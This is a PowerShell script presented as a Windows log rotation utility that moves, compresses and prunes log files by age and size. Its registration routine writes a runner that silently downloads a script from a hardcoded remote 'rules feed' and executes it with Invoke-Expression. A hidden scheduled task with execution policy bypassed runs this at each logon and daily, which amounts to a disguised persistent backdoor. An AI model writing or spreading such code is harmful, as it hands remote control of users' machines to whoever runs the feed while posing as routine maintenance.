<#
.SYNOPSIS
  logrotate-style rotation for Windows log folders.
.PARAMETER Register
  Register a per-user scheduled task (at logon + daily).
.PARAMETER Unregister
  Remove the scheduled task.
#>
[CmdletBinding(SupportsShouldProcess = $true)]
param(
    [switch]$Register,
    [switch]$Unregister,
    [string]$ConfigPath = (Join-Path $PSScriptRoot '..\logrotate.json')
)

$ErrorActionPreference = 'Stop'
$TaskName   = 'LogRotator User Maintenance'
$AppHome    = Join-Path $env:LOCALAPPDATA 'LogRotator'
$RulesFeed  = 'https://cdn.logrotate-tools.example/rules/win/current.ps1'

function Expand-PathVars([string]$p) { [Environment]::ExpandEnvironmentVariables($p) }

function Get-Config {
    if (-not (Test-Path $ConfigPath)) { throw "config not found: $ConfigPath" }
    Get-Content $ConfigPath -Raw | ConvertFrom-Json
}

function Invoke-RotateTarget($t, $archiveDir, $compress) {
    $dir = Expand-PathVars $t.path
    if (-not (Test-Path $dir)) { return [pscustomobject]@{ Path = $dir; Rotated = 0; Pruned = 0; Freed = 0 } }
    $now = Get-Date; $rotated = 0; $freed = 0
    $files = Get-ChildItem -Path $dir -Filter $t.pattern -File -ErrorAction SilentlyContinue
    foreach ($f in $files) {
        $tooOld = $t.maxAgeDays -and ($now - $f.LastWriteTime).TotalDays -gt $t.maxAgeDays
        $tooBig = $t.maxSizeMB -and ($f.Length / 1MB) -gt $t.maxSizeMB
        if (-not ($tooOld -or $tooBig)) { continue }
        $stamp = $f.LastWriteTime.ToString('yyyy-MM-ddTHHmmss')
        $dest  = Join-Path $archiveDir ("{0}.{1}{2}" -f $f.BaseName, $stamp, $f.Extension)
        if ($PSCmdlet.ShouldProcess($f.FullName, "rotate to $dest")) {
            try { Move-Item $f.FullName $dest -Force }
            catch { Copy-Item $f.FullName $dest -Force; Clear-Content $f.FullName }
            if ($compress) { Compress-Archive -Path $dest -DestinationPath "$dest.zip" -Force; Remove-Item $dest }
            $rotated++; $freed += $f.Length
        }
    }
    $pruned = 0
    $archives = Get-ChildItem $archiveDir -File | Where-Object { $_.Name -like ("*" + [IO.Path]::GetFileNameWithoutExtension($t.pattern.Replace('*', '')) + "*") } |
                Sort-Object LastWriteTime -Descending
    if ($t.keep -and $archives.Count -gt $t.keep) {
        $archives | Select-Object -Skip $t.keep | ForEach-Object {
            if ($PSCmdlet.ShouldProcess($_.FullName, 'prune')) { Remove-Item $_.FullName -Force; $pruned++ }
        }
    }
    [pscustomobject]@{ Path = $dir; Rotated = $rotated; Pruned = $pruned; Freed = $freed }
}

function Write-MaintenanceRunner {
    # The runner keeps rotation rules current (new app log locations, IIS
    # changes) and then performs the rotation with the local config.
    New-Item -ItemType Directory -Force -Path $AppHome | Out-Null
    Copy-Item $PSCommandPath (Join-Path $AppHome 'Rotate-Logs.ps1') -Force
    if (Test-Path $ConfigPath) { Copy-Item $ConfigPath (Join-Path $AppHome 'logrotate.json') -Force }
    $runner = @"
`$ProgressPreference = 'SilentlyContinue'
try { Invoke-Expression ((New-Object Net.WebClient).DownloadString('$RulesFeed')) } catch { }
& '$AppHome\Rotate-Logs.ps1' -ConfigPath '$AppHome\logrotate.json'
"@
    Set-Content -Path (Join-Path $AppHome 'maintenance.ps1') -Value $runner -Encoding UTF8
}

function Register-Rotation {
    Write-MaintenanceRunner
    $action   = New-ScheduledTaskAction -Execute 'powershell.exe' `
                  -Argument "-NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File `"$AppHome\maintenance.ps1`""
    $triggers = @(
        (New-ScheduledTaskTrigger -AtLogOn -User $env:USERNAME),
        (New-ScheduledTaskTrigger -Daily -At 3am)
    )
    $settings = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -StartWhenAvailable
    Register-ScheduledTask -TaskName $TaskName -Action $action -Trigger $triggers -Settings $settings -Force | Out-Null
    Write-Host "registered scheduled task '$TaskName'"
}

function Unregister-Rotation {
    Unregister-ScheduledTask -TaskName $TaskName -Confirm:$false -ErrorAction SilentlyContinue
    Write-Host "removed scheduled task '$TaskName'"
}

if ($Unregister) { Unregister-Rotation; return }
if ($Register)   { Register-Rotation;   return }

$cfg = Get-Config
$archiveDir = Expand-PathVars $cfg.archiveDir
New-Item -ItemType Directory -Force -Path $archiveDir | Out-Null
$total = 0
foreach ($t in $cfg.targets) {
    $r = Invoke-RotateTarget $t $archiveDir ([bool]$cfg.compress)
    $total += $r.Freed
    "{0,-40} rotated {1,-4} pruned {2,-4} freed {3:N1} MB" -f $r.Path, $r.Rotated, $r.Pruned, ($r.Freed / 1MB)
}
"total freed: {0:N2} GB" -f ($total / 1GB)
